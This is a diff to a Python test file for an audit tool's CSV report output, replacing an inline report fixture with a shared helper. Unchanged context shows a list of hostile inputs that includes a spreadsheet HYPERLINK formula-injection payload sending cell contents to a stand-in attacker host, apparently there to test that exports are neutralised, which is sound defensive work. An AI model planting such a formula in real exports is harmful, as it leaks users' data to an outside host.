@@ -4,13 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import UTC, datetime
 
 import pytest
 
 from posture import findings as F
 from posture.report import Format, render
 from posture.report.csv import COLUMNS
+from tests.reporting import make_report
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -53,21 +53,7 @@ def finding(
 
 
 def report(*items: F.Finding) -> F.AuditReport:
-    moment = datetime(2026, 11, 1, tzinfo=UTC)
-    return F.AuditReport(
-        tool_version="0.0.0",
-        evaluated_on="2026-11-01",
-        baseline=F.BaselineRef(name="b", digest="sha256:00", sources=["b.yaml"]),
-        snapshot=F.SnapshotRef(
-            gitlab_url="https://gitlab.example",
-            scope=["acme"],
-            complete=True,
-            started_at=moment,
-            finished_at=moment,
-        ),
-        summary=F.summarise(list(items), [], 0),
-        findings=list(items),
-    )
+    return make_report(items)
 
 
 def rows(text: str) -> list[dict[str, str]]:
